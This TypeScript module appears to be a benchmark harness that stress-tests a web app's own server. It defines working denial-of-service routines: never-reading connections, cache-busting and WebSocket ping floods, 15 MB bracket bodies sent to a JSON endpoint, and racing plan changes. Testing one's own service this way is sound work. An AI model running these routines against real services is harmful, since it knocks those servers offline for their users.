import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Headers } from '#tools/bench/accounts.ts';

/** Target of an attack with its credentials. */
export interface Target {
  origin: string;
  /** Second byte of the attackers' addresses in 127.0.0.0/8: 2 or more. */
  network: number;
  /** Owner of an organization of the attackers. */
  attacker: Headers;
  operator: Headers;
  /** Ids of the prices of two plans. */
  prices: string[];
}

interface Attack {
  shows: string;
  /** Attacks until the signal is aborted; passes every response to `count`. */
  run: (target: Target, over: AbortSignal, count: (answer: string) => void) => Promise<void>;
}

/** Returns the address of attacker number `n`: Linux lets a client use any of 127.0.0.0/8. */
const addressOf = ({ network }: Target, n: number) =>
  `127.${network}.${Math.floor(n / 250)}.${(n % 250) + 1}`;

/** Returns one shared address for half of the attackers and an own one for the others. */
const sharedOrOwn = (target: Target, n: number) => addressOf(target, n % 2 === 0 ? 0 : n);

interface Ask {
  method?: string;
  path: string;
  headers?: Headers;
  body?: string | Buffer;
  agent: Agent;
  signal?: AbortSignal;
}

/** Returns the status of a response once it has been read, or the error. */
const ask = (origin: string, { method = 'GET', path, headers, body, agent, signal }: Ask) =>
  new Promise<string>((resolve) => {
    const all = { ...headers, ...(body && { 'content-length': Buffer.byteLength(body) }) };
    const options = { method, agent, headers: all, ...(signal && { signal }) };
    const asked = request(`${origin}${path}`, options, (answer) => {
      answer.resume().once('close', () => resolve(String(answer.statusCode)));
    });
    asked.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.name));
    asked.end(body);
  });

const agentAt = (localAddress: string) =>
  new Agent({ keepAlive: true, maxSockets: Infinity, localAddress });

const forEach = <T>(count: number, work: (n: number) => Promise<T>) =>
  Promise.all(Array.from({ length: count }, (_, n) => work(n)));

const html = { accept: 'text/html', 'accept-encoding': 'gzip, deflate, br' };

/** Returns the path of the script that the page of the API reference loads. */
const referenceScript = async (origin: string) => {
  const page = await fetch(`${origin}/api/docs/`, { headers: html });
  const [, source = 'js/scalar.js'] =
    (await page.text()).match(/<script[^>]*\bsrc="([^"]+)"/) ?? [];
  return new URL(source, `${origin}/api/docs/`).href;
};

/** Opens a connection that requests without reading; opens another one when it is closed. */
const neverRead = async (url: string, localAddress: string, over: AbortSignal) => {
  const { hostname, port, pathname } = new URL(url);
  while (!over.aborted) {
    const socket: Socket = connect({ host: hostname, port: Number(port), localAddress });
    socket.on('error', () => undefined);
    socket.write(`GET ${pathname} HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip, br\r\n\r\n`);
    socket.pause();
    const closed = new Promise((resolve) => socket.once('close', resolve));
    const stop = () => socket.destroy();
    over.addEventListener('abort', stop, { once: true });
    await closed;
    over.removeEventListener('abort', stop);
    await sleep(100);
  }
};

const separator = '\u001E';
const handshake = `{"protocol":"json","version":1}${separator}`;
/** Number of pings that fit into one message of 32 KiB. */
const pings = `{"type":6}${separator}`.repeat(2_900);

/** Sends messages full of pings as fast as the server reads. */
const flood = async (url: string, localAddress: string, over: AbortSignal) => {
  const socket = new WebSocket(url, { localAddress });
  const ended = new Promise<string>((resolve) => {
    socket.once('close', (code) => resolve(`closed with ${code}`));
    socket.once('error', (error) => resolve(error.message));
  });
  await Promise.race([new Promise((resolve) => socket.once('open', resolve)), ended]);
  if (socket.readyState === WebSocket.OPEN) socket.send(handshake);
  while (socket.readyState === WebSocket.OPEN && !over.aborted) {
    if (socket.bufferedAmount < 1_000_000) socket.send(pings);
    await sleep(1);
  }
  if (socket.readyState === WebSocket.OPEN) {
    socket.terminate();
    return 'open until the end';
  }
  return ended;
};

const repeat = async (over: AbortSignal, work: () => Promise<void>) => {
  while (!over.aborted) await work();
};

const brackets = Buffer.alloc(15_000_000, '[');

/** Attacks by which a few clients could block a server for others. */
export const attacks: Record<string, Attack> = {
  readers: {
    shows: '100 connections that ask for the script of the API reference and do not read',
    run: async (target, over) => {
      const url = await referenceScript(target.origin);
      await forEach(100, (n) => neverRead(url, sharedOrOwn(target, n), over));
    },
  },
  cold: {
    shows: '1,000 visitors at once of a page that has just changed',
    run: async (target, over, count) => {
      const { origin, operator } = target;
      const agents = Array.from({ length: 250 }, (_, n) => agentAt(addressOf(target, n)));
      const own = agentAt('127.0.0.1');
      const json = { ...operator, 'content-type': 'application/json' };
      const listed = await fetch(`${origin}/api/SubscriptionProduct/GetAll`);
      const [product] = (await listed.json()) as { id: string; description: string }[];
      if (!product) throw new Error('There are no products');
      let changes = 0;
      await repeat(over, async () => {
        const description = `${product.description}${'.'.repeat((changes += 1) % 5)}`;
        const body = JSON.stringify({ ...product, description });
        const path = `/api/SubscriptionProduct/UpdateProduct/${product.id}`;
        const change = { method: 'PUT', path, headers: json, body, agent: own };
        count(`change ${await ask(origin, change)}`);
        await forEach(1_000, async (n) => {
          const agent = agents[n % agents.length] ?? own;
          count(await ask(origin, { path: '/pricing', headers: html, agent, signal: over }));
        });
      });
      for (const agent of [own, ...agents]) agent.destroy();
    },
  },
  sockets: {
    shows: '8 sockets of one member that send nothing but pings',
    run: async (target, over, count) => {
      const { origin, attacker } = target;
      const token = attacker['authorization']?.replace('Bearer ', '') ?? '';
      const url = `${origin.replace('http', 'ws')}/hub?access_token=${token}`;
      await forEach(8, (n) =>
        repeat(over, async () => {
          count(await flood(url, sharedOrOwn(target, n), over));
          await sleep(100);
        }),
      );
    },
  },
  uncached: {
    shows: '40 visitors of pages that are not kept',
    run: async (target, over, count) => {
      let visits = 0;
      await forEach(40, async (n) => {
        const agent = agentAt(sharedOrOwn(target, n));
        await repeat(over, async () => {
          const path = `/pricing?visit=${(visits += 1)}`;
          count(await ask(target.origin, { path, headers: html, agent, signal: over }));
        });
        agent.destroy();
      });
    },
  },
  brackets: {
    shows: '4 bodies of 15 MB of [ at a time',
    run: async (target, over, count) => {
      const { origin, attacker } = target;
      await forEach(4, async (n) => {
        const agent = agentAt(sharedOrOwn(target, n));
        const headers = { ...attacker, 'content-type': 'application/json' };
        const path = '/api/User/UpdateAvatar';
        await repeat(over, async () => {
          const sent = { method: 'POST', path, headers, body: brackets, agent, signal: over };
          count(await ask(origin, sent));
        });
        agent.destroy();
      });
    },
  },
  plans: {
    shows: '20 changes of the plan of one organization at once',
    run: async (target, over, count) => {
      const { origin, attacker, prices } = target;
      const agents = Array.from({ length: 20 }, (_, n) => agentAt(sharedOrOwn(target, n)));
      const headers = { ...attacker, 'content-type': 'application/json' };
      await repeat(over, async () => {
        await forEach(20, async (n) => {
          const body = JSON.stringify({ subscriptionPriceId: prices[n % prices.length] });
          const path = '/api/SubscriptionManager/UpdateSubscription';
          const agent = agents[n] ?? agentAt('127.0.0.1');
          count(await ask(origin, { method: 'POST', path, headers, body, agent, signal: over }));
        });
      });
      for (const agent of agents) agent.destroy();
    },
  },
};
